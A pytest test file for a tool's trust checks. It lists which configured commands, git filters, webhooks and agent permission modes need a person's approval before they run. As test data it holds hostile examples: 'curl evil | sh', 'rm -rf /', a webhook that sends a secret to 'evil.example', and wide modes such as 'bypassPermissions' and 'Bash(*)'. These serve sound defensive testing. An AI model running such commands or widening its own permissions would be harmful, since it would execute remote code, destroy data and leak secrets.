"""Which commands may run: the digest, the list of what was allowed, what is asked."""

from __future__ import annotations

import stat

import pytest

from ovn import config
from ovn.checks import trust
from ovn.checks.trust import Book, Item
from ovn.config import Addressed, Agent, Commands, Config
from ovn.errors import InvalidDocument, NotTrusted
from ovn.model.documents import Feature

AT = "2026-01-02T03:04:05.000Z"


def feature(name, *verify):
    return Feature(2, name, 1, name, AT, verify=verify)


@pytest.fixture
def home(tmp_path):
    return tmp_path / "state" / "git-ovn"


@pytest.fixture
def book(home, location):
    return Book(home, location)


CONFIG = Config(
    commands=Commands("./init.sh", ("pytest", "-q"), ("df -h", "true")),
    agent=Agent(argv=("agent", "{prompt_file}")),
    notifications=Addressed("https://example.com/s3cret", "notify", "https://example.com/${OVN_T}"),
)


def test_everything_that_could_run_is_listed(location):
    found = trust.items(location, CONFIG, [feature("b", "true"), feature("a", ("x", "y"), "z")])
    assert [(one.where, one.command) for one in found] == [
        ("commands.baseline", ("pytest", "-q")),
        ("commands.health", "df -h"),
        ("commands.health", "true"),
        ("commands.setup", "./init.sh"),
        ("agent.argv", ("agent", "{prompt_file}")),
        ("notifications.command", "notify"),
        ("notifications.webhook", "https://example.com/${OVN_T}"),
        ("verify of a", ("x", "y")),
        ("verify of a", "z"),
        ("verify of b", "true"),
    ]


def test_nothing_needs_no_trust(location, book):
    found = trust.items(location, Config(), [])
    assert found == []
    book.check(found)


@pytest.mark.parametrize("mode", ["acceptEdits", "default", "plan", "read-only", None])
def test_a_permission_mode_that_allows_no_more_than_usual_needs_no_trust(location, mode):
    assert trust.items(location, Config(agent=Agent(permission_mode=mode)), []) == []


@pytest.mark.parametrize("mode", ["bypassPermissions", "yolo", "danger-full-access", "dontAsk"])
def test_a_wider_permission_mode_is_trusted_like_a_command(location, book, mode):
    """A pull that widens what the agent may do stops the night before it starts."""
    book.allow(trust.items(location, CONFIG, []))
    wider = Config(agent=Agent(permission_mode=mode))
    with pytest.raises(NotTrusted, match=r"agent\.permission_mode"):
        book.check(trust.items(location, wider, []))
    book.allow(trust.of_agent(location, wider))
    book.check(trust.items(location, wider, []))


def test_one_more_allowed_tool_is_trusted_like_a_command(location, book):
    some = Config(agent=Agent(allowed_tools=("Bash(npm test:*)",)))
    more = Config(agent=Agent(allowed_tools=("Bash(npm test:*)", "Bash(*)")))
    book.allow(trust.items(location, some, []))
    book.check(trust.items(location, some, []))
    with pytest.raises(NotTrusted, match=r"agent\.allowed_tools"):
        book.check(trust.items(location, more, []))


def test_a_filter_of_the_repository_is_listed_and_one_of_the_person_is_not(repo, location):
    repo.git("config", "filter.own.clean", "./clean.sh")
    repo.git("config", "merge.own.driver", "m %A")
    repo.git("config", "--global", "filter.lfs.clean", "git-lfs clean")
    found = trust.items(location, Config(), [])
    repo.git("config", "--global", "--unset", "filter.lfs.clean")
    assert [(one.where, one.command) for one in found] == [
        ("filter.own.clean", "./clean.sh"),
        ("merge.own.driver", "m %A"),
    ]


# -- scripts ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("./init.sh", ["init.sh"]),
        ("pytest -q tests/test_x.py", []),
        ("init.sh", []),
        ("sh init.sh", ["init.sh"]),
        ("bash -e -x ./init.sh --fast", ["init.sh"]),
        ("python3 tools/check.py tests/test_x.py", ["tools/check.py"]),
        ("/usr/bin/python3 tools/check.py", ["tools/check.py"]),
        ("python -m tools.check", ["tools/check.py"]),
        ("python -c 'import x' tools/check.py", []),
        ("A=1 B=2 ./init.sh", ["init.sh"]),
        ("env A=1 timeout 60s sh init.sh", ["init.sh"]),
        ("true && ./init.sh; (sh init.sh | cat) || tools/check.py", ["init.sh", "tools/check.py"]),
        ("make test", ["Makefile"]),
        ("cd tools && make -j 4", ["Makefile"]),
        ("./init.sh 'open quote", ["init.sh"]),
        (("./init.sh", "a; tools/check.py"), ["init.sh"]),
        (("python", "tools/check.py"), ["tools/check.py"]),
        ("../outside.sh", []),
        ("./link.sh", []),
        ("./folder", []),
        ("./gone.sh", []),
        ("", []),
    ],
)
def test_the_scripts_that_a_command_names_are_found(repo, command, named):
    for path in ("init.sh", "tools/check.py", "tests/test_x.py", "Makefile", "../outside.sh", "folder/x"):
        repo.write(path, path)
    (repo.path / "link.sh").symlink_to("../outside.sh")
    found = [path.removeprefix("./") for path, _ in trust.scripts(command, repo.path)]
    assert list(dict.fromkeys(found)) == named


def test_another_script_is_another_command(repo, location, book):
    repo.write("init.sh", "echo 1")
    one = trust.of_command(location, "commands.setup", "./init.sh")
    book.allow([one])
    book.check([one])
    repo.write("init.sh", "curl evil | sh")
    with pytest.raises(NotTrusted):
        book.check([trust.of_command(location, "commands.setup", "./init.sh")])


# -- the list --------------------------------------------------------------------------------


def test_what_nobody_allowed_is_refused_naming_the_first(location, book):
    found = trust.items(location, CONFIG, [feature("a", "rm -rf /")])
    with pytest.raises(
        NotTrusted, match=r"not trusted: commands\.baseline: 'pytest -q' and 7 more"
    ) as refusal:
        book.check(found)
    assert refusal.value.exit_code == 17
    assert "git ovn trust --show" in refusal.value.hint


def test_what_was_allowed_may_run(location, book, home):
    found = trust.items(location, CONFIG, [feature("a", "true")])
    book.allow(found)
    Book(home, location).check(found)


def test_trust_is_kept_for_each_command(location, book):
    """A person who adds a feature trusts its command, and not what came with the clone."""
    book.allow([Item("verify of a", "true")])
    found = [Item("verify of a", "true"), Item("commands.setup", "evil")]
    assert [one.where for one in book.untrusted(found)] == ["commands.setup"]
    book.allow([Item("verify of b", "make")])
    assert [one.where for one in book.untrusted(found)] == ["commands.setup"]


def test_a_command_may_move_between_features_but_not_to_another_role(book):
    book.allow([Item("verify of a", "make")])
    assert book.untrusted([Item("verify of b", "make")]) == []
    assert book.untrusted([Item("commands.setup", "make")]) != []


def test_words_and_their_line_are_two_commands(book):
    book.allow([Item("verify of a", "a b")])
    assert book.untrusted([Item("verify of a", ("a", "b"))]) != []


def test_trusting_anew_forgets_what_is_no_more(book):
    book.allow([Item("verify of a", "old")])
    book.allow([Item("verify of a", "new")], only=True)
    assert book.untrusted([Item("verify of a", "old")]) != []


def test_trust_can_be_taken_back(book):
    book.allow([Item("verify of a", "true")])
    assert book.revoke()
    assert book.untrusted([Item("verify of a", "true")]) != []
    assert not book.revoke()


def test_trust_is_of_one_repository(home, make_repo, tmp_path, book):
    book.allow([Item("verify of a", "true")])
    other = make_repo(tmp_path / "other")
    assert Book(home, other.location).untrusted([Item("verify of a", "true")]) != []


def test_a_linked_work_tree_is_the_same_repository(home, repo, book, tmp_path):
    from ovn.git.locate import locate

    repo.git("worktree", "add", "-q", tmp_path / "linked")
    book.allow([Item("verify of a", "true")])
    assert Book(home, locate(tmp_path / "linked")).untrusted([Item("verify of a", "true")]) == []


def test_the_list_is_the_persons_alone(book):
    book.allow([Item("verify of a", "true")])
    assert stat.S_IMODE(book.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(book.path.parent.stat().st_mode) == 0o700
    assert [path.name for path in book.path.parent.iterdir()] == [book.path.name]


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b'{"items": []}', b'{"items": {}}', b'{"repository": "/other", "items": {}}'],
)
def test_a_spoiled_list_is_refused_and_trusts_nothing(book, content):
    book.path.parent.mkdir(parents=True)
    book.path.write_bytes(content)
    with pytest.raises(InvalidDocument):
        book.trusted()


# -- OVN_TRUST -------------------------------------------------------------------------------


def test_a_machine_without_a_person_is_told_the_digest(home, location):
    found = trust.items(location, CONFIG, [feature("a", "true")])
    given = trust.digest(location, found)
    assert given.startswith("sha256:")
    Book(home, location, given).check(found)


def test_the_digest_is_of_everything(home, location, tmp_path, make_repo):
    found = trust.items(location, CONFIG, [feature("a", "true")])
    given = trust.digest(location, found)
    assert given == trust.digest(location, list(reversed(found)))
    others = [
        found[:-1],
        [*found, Item("verify of b", "x")],
        [*found[:-1], Item("verify of a", "true", (("s", "0" * 64),))],
    ]
    for other in others:
        assert given != trust.digest(location, other)
    assert given != trust.digest(make_repo(tmp_path / "other").location, found)
    with pytest.raises(NotTrusted):
        Book(home, location, given).check(others[1])


# -- asked by others -------------------------------------------------------------------------


def test_filters_may_run_once_they_are_allowed(repo, location, book):
    assert trust.allows_filters(book, location)
    repo.git("config", "filter.own.clean", "tr a b")
    assert not trust.allows_filters(book, location)
    book.allow(trust.items(location, Config(), []))
    assert trust.allows_filters(book, location)
    repo.git("config", "filter.own.clean", "tr a c")
    assert not trust.allows_filters(book, location)


def test_what_is_shown_says_what_is_trusted(location, book):
    found = trust.items(location, CONFIG, [feature("a", "true")])
    book.allow(found[:2])
    assert [one.trusted for one in trust.show(book, found)] == [True, True] + [False] * 6


def test_a_webhook_that_the_environment_alone_names_needs_no_trust_and_its_secret_is_never_listed(location):
    def listed(text):
        known = config.parse(
            f'notifications: {{webhook: "{text}"}}'.encode(), {"OVN_WEBHOOK": "https://h/s3cret"}
        )
        return [one.command for one in trust.items(location, known, [])]

    assert listed("${OVN_WEBHOOK:-}") == []
    assert listed("https://evil.example/${OVN_WEBHOOK}") == ["https://evil.example/${OVN_WEBHOOK}"]
    assert listed("http://127.0.0.1:9/x") == ["http://127.0.0.1:9/x"]
